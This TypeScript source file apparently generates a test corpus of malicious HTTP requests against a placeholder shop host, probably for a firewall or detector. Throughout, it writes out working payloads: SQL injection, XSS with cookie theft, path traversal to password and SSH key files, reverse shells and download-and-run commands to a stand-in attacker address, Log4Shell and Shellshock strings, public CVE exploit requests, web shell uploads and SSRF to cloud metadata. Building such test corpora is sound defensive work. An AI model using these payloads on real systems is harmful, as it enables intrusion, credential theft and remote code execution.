import {
  BROWSERS,
  browserHeaders,
  type Entry,
  encode,
  fetchHeaders,
  get,
  type Headers,
  multipart,
  postForm,
  type SampleRequestJson,
  sendJson,
  withHeader,
} from './http.js';

/**
 * Attack requests: payloads of each family, as attack tools and hand-written exploits send them, placed
 * in the parts of the request they target (query, form, JSON body, cookie, path, headers). Hosts and
 * callback addresses use documentation names and ranges.
 */

const HOST = 'shop.example.com';
const ATTACKER = '198.51.100.7';

/** Places a payload in one of several request parts, in turn, so a family is not tested in one place. */
const PLACEMENTS: ((payload: string, n: number) => SampleRequestJson)[] = [
  (p, n) => get(`https://${HOST}/search?q=${encode(p)}&page=1`, browserHeaders(HOST, n)),
  (p, n) =>
    postForm(`https://${HOST}/account/login`, browserHeaders(HOST, n), { username: p, password: 'hunter2' }),
  (p, n) =>
    sendJson('POST', `https://${HOST}/api/v1/comments`, fetchHeaders(HOST, n), { postId: 42, text: p }),
  (p, n) => get(`https://${HOST}/products?category=shoes&sort=${encode(p)}`, browserHeaders(HOST, n)),
  (p, n) =>
    get(`https://${HOST}/account`, browserHeaders(HOST, n), {
      cookies: { session: 'a81f0c2e9d', pref: encode(p) },
    }),
  (p, n) => get(`https://${HOST}/item.php?id=${encode(p)}`, browserHeaders(HOST, n)),
];

function placed(kind: string, payloads: readonly string[], offset = 0): Entry[] {
  return payloads.map((payload, i) => {
    const n = i + offset;
    const place = PLACEMENTS[n % PLACEMENTS.length] as (payload: string, n: number) => SampleRequestJson;
    return { name: `${kind} #${i + 1}: ${payload.slice(0, 60)}`, kind, request: place(payload, n) };
  });
}

const SQLI = [
  "1' OR '1'='1",
  "1' OR 1=1-- -",
  "admin'--",
  "' UNION SELECT username, password FROM users--",
  '1 UNION ALL SELECT NULL,NULL,NULL--',
  "-1' union/**/select 1,group_concat(table_name),3 from information_schema.tables-- ",
  '1; DROP TABLE users--',
  "1' AND SLEEP(5)-- ",
  '1) AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- ',
  "1'; WAITFOR DELAY '0:0:5'--",
  "1' AND extractvalue(1,concat(0x7e,version()))-- ",
  "1' AND updatexml(1,concat(0x7e,(SELECT user())),1)-- ",
  "' OR 'x'='x",
  '5 AND 1=1',
  "1' ORDER BY 3-- ",
  "' UNION SELECT @@version-- ",
  "1'; EXEC xp_cmdshell('whoami')-- ",
  "' OR 1=1 LIMIT 1-- ",
  "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64-- ",
  "1' and benchmark(5000000,md5(1))#",
  "') or ('a'='a",
  '" or ""="',
  "1' UNION SELECT LOAD_FILE('/etc/passwd')-- ",
  '1 or pg_sleep(5)--',
  "x' AND 1=(SELECT COUNT(*) FROM sysobjects)--",
  "1' AND 1=CONVERT(int,(SELECT @@version))--",
  '1 UniOn SeLeCt 1,2,concat(user,0x3a,password) FrOm mysql.user',
  "1'/**/OR/**/'1'='1",
];

const XSS = [
  '<script>alert(1)</script>',
  '"><script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  "<body onload=alert('XSS')>",
  'javascript:alert(1)',
  '<iframe src="javascript:alert(1)"></iframe>',
  "'-alert(1)-'",
  '";alert(1);//',
  '<a href="javascript:alert(1)">click</a>',
  '<details open ontoggle=alert(1)>',
  '" autofocus onfocus=alert(1) x="',
  "{{constructor.constructor('alert(1)')()}}",
  '<ScRiPt>prompt(1)</sCrIpT>',
  '&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<embed src=//evil.example/x.swf>',
  '" onmouseover="alert(1)',
  '<video><source onerror="alert(1)">',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  'top["al"+"ert"](1)',
  "<img src=1 onerror=fetch('//evil.example/?c='+document.cookie)>",
  '<marquee onstart=alert(1)>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
];

const TRAVERSAL = [
  '../../../../etc/passwd',
  '....//....//....//etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '/etc/passwd\u0000.jpg',
  'php://filter/convert.base64-encode/resource=index.php',
  'file:///etc/passwd',
  '../../../../proc/self/environ',
  '../../WEB-INF/web.xml',
  '../../../../var/log/apache2/access.log',
  'C:\\Windows\\System32\\drivers\\etc\\hosts',
  'expect://id',
  'phar://uploads/avatar.jpg/shell',
  '../../../.ssh/id_rsa',
];

const COMMANDS = [
  '; cat /etc/passwd',
  'x | id',
  '$(whoami)',
  '`uname -a`',
  `&& wget http://${ATTACKER}/x.sh -O /tmp/x.sh`,
  ';curl http://evil.example/s.sh | sh',
  '127.0.0.1; ls -la /',
  `127.0.0.1 && nc -e /bin/sh ${ATTACKER} 4444`,
  '|powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
  '& cmd.exe /c whoami',
  `;bash -i >& /dev/tcp/${ATTACKER}/4444 0>&1`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is ${…} text, as attackers send it
  '${IFS}cat${IFS}/etc/passwd',
  ';{cat,/etc/passwd}',
  '|| ping -c 10 127.0.0.1',
  ';/usr/bin/id',
  'a\nid',
  `;python3 -c 'import os;os.system("id")'`,
  '$(curl -s http://evil.example/x|bash)',
  `| certutil -urlcache -split -f http://${ATTACKER}/a.exe a.exe`,
  "127.0.0.1;w'h'o'am'i",
];

const SSTI = [
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is ${…} text, as attackers send it
  '${7*7}',
  "{{''.__class__.__mro__[1].__subclasses__()}}",
  '{{config.items()}}',
  '<%= 7*7 %>',
  '#{7*7}',
  '{{request.application.__globals__.__builtins__.__import__("os").popen("id").read()}}',
];

const PHP_CODE = [
  "<?php system($_GET['c']); ?>",
  "system('id')",
  "eval(base64_decode('cGhwaW5mbygpOw=='))",
  'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}',
  'php://input',
  '<?=`$_GET[0]`?>',
];

const LOG4J = [
  `\${jndi:ldap://${ATTACKER}:1389/a}`,
  `\${\${lower:j}ndi:\${lower:l}dap://${ATTACKER}/x}`,
  `\${\${::-j}\${::-n}\${::-d}\${::-i}:rmi://${ATTACKER}/x}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is ${…} text, as attackers send it
  '${jndi:dns://evil.example/a}',
  `\${\${env:BARFOO:-j}ndi\${env:BARFOO:-:}ldap://${ATTACKER}/a}`,
  `\${\${upper:j}ndi:ldaps://${ATTACKER}/a}`,
];

/** Log4j payloads in the headers that servers log. */
const LOG4J_HEADERS: [string, string][] = [
  ['User-Agent', `\${jndi:ldap://${ATTACKER}:1389/Exploit}`],
  ['X-Api-Version', `\${jndi:ldap://${ATTACKER}/a}`],
  ['Referer', `\${jndi:\${lower:l}\${lower:d}a\${lower:p}://${ATTACKER}/a}`],
  ['X-Forwarded-For', `\${jndi:rmi://${ATTACKER}:1099/x}`],
  ['Authorization', `Bearer \${jndi:ldap://${ATTACKER}/token}`],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is ${…} text, as attackers send it
  ['X-Client-Id', '${${sys:os.name}:-${jndi:ldap://evil.example/a}}'],
];

const SCANNER_AGENTS = [
  'sqlmap/1.7.2#stable (https://sqlmap.org)',
  'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)',
  'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
  'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36 nuclei',
  'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)',
  'Mozilla/5.0 zgrab/0.x',
  'gobuster/3.6',
  'Fuzz Faster U Fool v2.1.0-dev',
  'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)',
  'Wfuzz/3.1.0',
  'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; SV1; .NET CLR 2.0.50727) Havij',
];

const PROBE_PATHS = [
  '/.env',
  '/.git/config',
  '/wp-config.php.bak',
  '/wp-config.php',
  '/.aws/credentials',
  '/backup.sql',
  '/db.zip',
  '/.DS_Store',
  '/server-status',
  '/actuator/env',
  '/phpinfo.php',
  '/phpmyadmin/index.php',
  '/.htpasswd',
  '/config.php~',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/_ignition/execute-solution',
  '/.ssh/id_rsa',
  '/api/.env.production',
];

const scanner = (n: number) => BROWSERS[n % BROWSERS.length] as string;

/** Exploits of known vulnerabilities, as public proof-of-concept requests send them. */
function cveProbes(): Entry[] {
  const h = (n: number, extra: Headers = []) => browserHeaders(HOST, n, extra);
  const probes: [string, SampleRequestJson][] = [
    ['Citrix ADC CVE-2019-19781', get(`https://${HOST}/vpn/../vpns/cfg/smb.conf`, h(0))],
    [
      'F5 BIG-IP CVE-2020-5902',
      get(
        `https://${HOST}/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd`,
        h(1),
      ),
    ],
    [
      'F5 BIG-IP CVE-2022-1388',
      sendJson(
        'POST',
        `https://${HOST}/mgmt/tm/util/bash`,
        [
          ['Host', HOST],
          ['User-Agent', scanner(2)],
          ['Authorization', 'Basic YWRtaW46'],
          ['X-F5-Auth-Token', ''],
          ['Connection', 'keep-alive, X-F5-Auth-Token'],
        ],
        { command: 'run', utilCmdArgs: "-c 'id'" },
      ),
    ],
    [
      'Fortinet CVE-2018-13379',
      get(`https://${HOST}/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession`, h(3)),
    ],
    [
      'Exchange ProxyShell CVE-2021-34473',
      get(
        `https://${HOST}/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example`,
        h(4),
      ),
    ],
    ['Apache CVE-2021-41773', get(`https://${HOST}/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd`, h(5))],
    ['Apache CVE-2021-42013', get(`https://${HOST}/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd`, h(0))],
    [
      'ThinkPHP CVE-2018-20062',
      get(
        `https://${HOST}/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP`,
        h(1),
      ),
    ],
    [
      'vBulletin CVE-2019-16759',
      postForm(`https://${HOST}/index.php`, h(2), {
        routestring: 'ajax/render/widget_php',
        'widgetConfig[code]': "echo shell_exec('id'); exit;",
      }),
    ],
    [
      'Drupal CVE-2018-7600',
      postForm(
        `https://${HOST}/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax`,
        h(3),
        {
          form_id: 'user_register_form',
          _drupal_ajax: '1',
          'mail[#post_render][]': 'exec',
          'mail[#type]': 'markup',
          'mail[#markup]': 'id',
        },
      ),
    ],
    [
      'WordPress Slider Revolution LFI',
      get(`https://${HOST}/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php`, h(4)),
    ],
    [
      'Next.js CVE-2025-29927',
      get(
        `https://${HOST}/dashboard`,
        h(5, [['x-middleware-subrequest', 'middleware:middleware:middleware:middleware:middleware']]),
      ),
    ],
    [
      'GPON CVE-2018-10561',
      postForm(`https://${HOST}/GponForm/diag_Form?images/`, h(0), {
        XWebPageName: 'diag',
        diag_action: 'ping',
        dest_host: '`busybox wget http://198.51.100.7/m -O /tmp/m`',
      }),
    ],
    [
      'WebLogic CVE-2020-14882',
      get(
        `https://${HOST}/console/css/%252e%252e%252fconsole.portal?_nfpb=true&handle=com.tangosol.coherence.mvel2.sh.ShellSession`,
        h(1),
      ),
    ],
    [
      'Ivanti CVE-2023-46805',
      get(`https://${HOST}/api/v1/totp/user-backup-code/../../system/system-information`, h(2)),
    ],
    ['Joomla CVE-2023-23752', get(`https://${HOST}/api/index.php/v1/config/application?public=true`, h(3))],
    [
      'vCenter CVE-2021-21972',
      multipart(`https://${HOST}/ui/vropspluginui/rest/services/uploadova`, h(4), [
        { name: 'uploadFile', filename: 'x.tar', type: 'application/x-tar', value: 'payload' },
      ]),
    ],
    [
      'Confluence CVE-2022-26134',
      get(
        `https://${HOST}/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/`,
        h(5),
      ),
    ],
    [
      'Struts CVE-2017-5638',
      get(
        `https://${HOST}/struts2-showcase/index.action`,
        h(0, [
          [
            'Content-Type',
            "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}",
          ],
        ]),
      ),
    ],
    [
      'Spring Cloud Function CVE-2022-22963',
      {
        ...postForm(
          `https://${HOST}/functionRouter`,
          h(1, [
            [
              'spring.cloud.function.routing-expression',
              'T(java.lang.Runtime).getRuntime().exec("touch /tmp/pwned")',
            ],
          ]),
          { data: 'x' },
        ),
      },
    ],
    [
      'Spring4Shell CVE-2022-22965',
      postForm(`https://${HOST}/greeting`, h(2), {
        'class.module.classLoader.resources.context.parent.pipeline.first.pattern': '%{c2}i',
        'class.module.classLoader.resources.context.parent.pipeline.first.suffix': '.jsp',
      }),
    ],
    [
      'PHP-CGI CVE-2012-1823',
      {
        ...postForm(
          `https://${HOST}/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input`,
          h(3),
          {},
        ),
        body: "<?php echo shell_exec('id'); ?>",
      },
    ],
    [
      'PHP-CGI CVE-2024-4577',
      get(
        `https://${HOST}/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input`,
        h(4),
      ),
    ],
    [
      'Text4Shell CVE-2022-42889',
      get(
        // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is ${…} text, as attackers send it
        `https://${HOST}/search?q=${encode("${script:javascript:java.lang.Runtime.getRuntime().exec('id')}")}`,
        h(5),
      ),
    ],
    [
      'Laravel CVE-2021-3129',
      sendJson('POST', `https://${HOST}/_ignition/execute-solution`, fetchHeaders(HOST, 0), {
        solution: 'Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution',
        parameters: { variableName: 'x', viewFile: 'phar://../storage/logs/laravel.log' },
      }),
    ],
    [
      'WordPress File Manager CVE-2020-25213',
      multipart(`https://${HOST}/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php`, h(1), [
        { name: 'cmd', value: 'upload' },
        { name: 'target', value: 'l1_Lw' },
        {
          name: 'upload[]',
          filename: 'x.php',
          type: 'application/octet-stream',
          value: '<?php system($_GET["c"]); ?>',
        },
      ]),
    ],
    [
      'Java deserialization cookie',
      get(`https://${HOST}/account`, h(2), {
        cookies: {
          rememberMe: 'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0',
        },
      }),
    ],
    [
      'Shell upload',
      multipart(`https://${HOST}/profile/avatar`, h(3), [
        {
          name: 'avatar',
          filename: 'avatar.php',
          type: 'image/jpeg',
          value: "GIF89a<?php system($_REQUEST['cmd']); ?>",
        },
      ]),
    ],
  ];
  return probes.map(([name, request]) => ({ name, kind: 'cve', request }));
}

/** Server-side request forgery, XXE, NoSQL and prototype pollution. */
function otherInjections(): Entry[] {
  const h = (n: number) => browserHeaders(HOST, n);
  const entries: [string, string, SampleRequestJson][] = [
    [
      'ssrf',
      'AWS metadata',
      get(
        `https://${HOST}/fetch?url=${encode('http://169.254.169.254/latest/meta-data/iam/security-credentials/')}`,
        h(0),
      ),
    ],
    [
      'ssrf',
      'GCP metadata',
      get(
        `https://${HOST}/preview?link=${encode('http://metadata.google.internal/computeMetadata/v1/project/')}`,
        h(1),
      ),
    ],
    [
      'ssrf',
      'gopher to Redis',
      get(`https://${HOST}/image?src=${encode('gopher://127.0.0.1:6379/_SET%20x%20y')}`, h(2)),
    ],
    [
      'ssrf',
      'dict to memcached',
      sendJson('POST', `https://${HOST}/api/webhooks`, fetchHeaders(HOST, 3), {
        target: 'dict://127.0.0.1:11211/stats',
      }),
    ],
    [
      'ssrf',
      'IPv6 metadata',
      get(`https://${HOST}/fetch?url=${encode('http://[fd00:ec2::254]/latest/meta-data/')}`, h(4)),
    ],
    [
      'xxe',
      'file entity',
      {
        ...sendJson('POST', `https://${HOST}/api/import`, fetchHeaders(HOST, 5), null),
        body: '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><order><id>&xxe;</id></order>',
        contentType: 'application/xml',
      },
    ],
    [
      'xxe',
      'parameter entity',
      {
        ...sendJson('POST', `https://${HOST}/soap`, fetchHeaders(HOST, 0), null),
        body: `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % remote SYSTEM "http://${ATTACKER}/evil.dtd">%remote;]><r/>`,
        contentType: 'text/xml',
      },
    ],
    [
      'xxe',
      'SVG upload',
      multipart(`https://${HOST}/upload`, h(1), [
        {
          name: 'file',
          filename: 'logo.svg',
          type: 'image/svg+xml',
          value:
            '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>',
        },
      ]),
    ],
    [
      'nosqli',
      'operator in form',
      postForm(`https://${HOST}/login`, h(2), { 'username[$ne]': 'x', 'password[$ne]': 'x' }),
    ],
    [
      'nosqli',
      'operator in JSON',
      sendJson('POST', `https://${HOST}/api/login`, fetchHeaders(HOST, 3), {
        username: { $gt: '' },
        password: { $gt: '' },
      }),
    ],
    [
      'nosqli',
      '$where',
      sendJson('POST', `https://${HOST}/api/search`, fetchHeaders(HOST, 4), {
        $where: 'sleep(5000) || true',
      }),
    ],
    [
      'nosqli',
      'regex in query',
      get(`https://${HOST}/api/users?username[$regex]=.*&password[$regex]=.*`, h(5)),
    ],
    ['prototype-pollution', 'query', get(`https://${HOST}/settings?__proto__[isAdmin]=true`, h(0))],
    [
      'prototype-pollution',
      'JSON',
      sendJson('PATCH', `https://${HOST}/api/profile`, fetchHeaders(HOST, 1), {
        constructor: { prototype: { isAdmin: true } },
      }),
    ],
    ['rfi', 'IP address', get(`https://${HOST}/index.php?page=http://203.0.113.66/shell.txt?`, h(2))],
    [
      'rfi',
      'trailing question mark',
      get(`https://${HOST}/view.php?include=${encode('http://evil.example/c99.txt?')}`, h(3)),
    ],
    ['rfi', 'FTP on IP', get(`https://${HOST}/index.php?file=ftp://${ATTACKER}/x.php`, h(4))],
    ['rfi', 'template', get(`https://${HOST}/render?template=https://evil.example/inc.php?`, h(5))],
  ];
  return entries.map(([kind, name, request]) => ({ name: `${kind}: ${name}`, kind, request }));
}

/** Protocol misuse: methods, smuggling, header and response splitting. */
function protocolAbuse(): Entry[] {
  const h = (n: number, extra: Headers = []) => browserHeaders(HOST, n, extra);
  const entries: [string, SampleRequestJson][] = [
    ['TRACE method', { ...get(`https://${HOST}/`, h(0)), method: 'TRACE' }],
    ['TRACK method', { ...get(`https://${HOST}/`, h(1)), method: 'TRACK' }],
    [
      'CL.TE smuggling',
      {
        ...postForm(
          `https://${HOST}/`,
          h(2, [
            ['Content-Length', '6'],
            ['Transfer-Encoding', 'chunked'],
          ]),
          {},
        ),
        body: '0\r\n\r\nG',
      },
    ],
    [
      'obfuscated Transfer-Encoding',
      {
        ...postForm(`https://${HOST}/`, h(3, [['Transfer-Encoding', 'chunked, identity']]), {}),
        body: '0\r\n\r\n',
      },
    ],
    ['CRLF in query', get(`https://${HOST}/lang?lang=en%0d%0aSet-Cookie:%20admin=1`, h(4))],
    ['CRLF redirect', get(`https://${HOST}/redirect?to=%0d%0aLocation:%20http://evil.example`, h(5))],
    ['CRLF in path', get(`https://${HOST}/page%0d%0aSet-Cookie:crlf=injection`, h(0))],
    ['null byte in path', get(`https://${HOST}/download.php%00.jpg`, h(1))],
    ['httpoxy', get(`https://${HOST}/cgi-bin/status`, h(2, [['Proxy', `http://${ATTACKER}:8080`]]))],
    [
      'smuggled request in parameter',
      get(`https://${HOST}/search?q=x%0d%0a%0d%0aGET%20/admin%20HTTP/1.1%0d%0aHost:%20localhost`, h(3)),
    ],
    [
      'Citrix Bleed oversized Host',
      get(`https://${HOST}/oauth/idp/.well-known/openid-configuration`, [
        ['Host', 'a'.repeat(24812)],
        ['User-Agent', scanner(4)],
      ]),
    ],
    [
      'DEBUG method',
      { ...get(`https://${HOST}/default.aspx`, h(5, [['Command', 'stop-debug']])), method: 'DEBUG' },
    ],
  ];
  return entries.map(([name, request]) => ({ name: `protocol: ${name}`, kind: 'protocol', request }));
}

export function attackCorpus(): Entry[] {
  return [
    ...placed('sqli', SQLI),
    ...placed('xss', XSS, 1),
    ...placed('traversal', TRAVERSAL, 2),
    // Traversal in the path itself, as scanners request it (clients do not normalise it away).
    ...[
      '/static/../../../../etc/passwd',
      '/images/..%2f..%2f..%2f..%2fetc%2fpasswd',
      '/assets/%252e%252e/%252e%252e/%252e%252e/etc/passwd',
      '/files/..%c0%af..%c0%afetc/passwd',
    ].map((path, n) => ({
      name: `traversal in path: ${path}`,
      kind: 'traversal',
      request: get(`https://${HOST}${path}`, browserHeaders(HOST, n)),
    })),
    ...placed('rce', COMMANDS, 3),
    ...placed('ssti', SSTI, 4),
    ...placed('php', PHP_CODE, 5),
    ...placed('log4shell', LOG4J),
    ...LOG4J_HEADERS.map(([header, value], n) => ({
      name: `log4shell in ${header}`,
      kind: 'log4shell',
      request: get(`https://${HOST}/`, withHeader(browserHeaders(HOST, n), header, value)),
    })),
    ...['User-Agent', 'Referer', 'Cookie', 'X-Forwarded-Host'].map((header, n) => ({
      name: `shellshock in ${header}`,
      kind: 'shellshock',
      request: get(`https://${HOST}/cgi-bin/status.cgi`, [
        ['Host', HOST],
        [header, '() { :; }; /bin/bash -c "cat /etc/passwd"'],
        ...(header === 'User-Agent' ? [] : ([['User-Agent', scanner(n)]] as Headers)),
      ]),
    })),
    ...SCANNER_AGENTS.map((agent, n) => ({
      name: `scanner: ${agent.slice(0, 40)}`,
      kind: 'scanner',
      request: get(`https://${HOST}/${['', 'admin/', 'login.php', 'index.php?id=1'][n % 4]}`, [
        ['Host', HOST],
        ['User-Agent', agent],
        ['Accept', '*/*'],
      ]),
    })),
    ...PROBE_PATHS.map((path, n) => ({
      name: `probe: ${path}`,
      kind: 'probe',
      request: get(`https://${HOST}${path}`, [
        ['Host', HOST],
        ['User-Agent', scanner(n)],
        ['Accept', '*/*'],
      ]),
    })),
    ...cveProbes(),
    ...otherInjections(),
    ...protocolAbuse(),
  ];
}
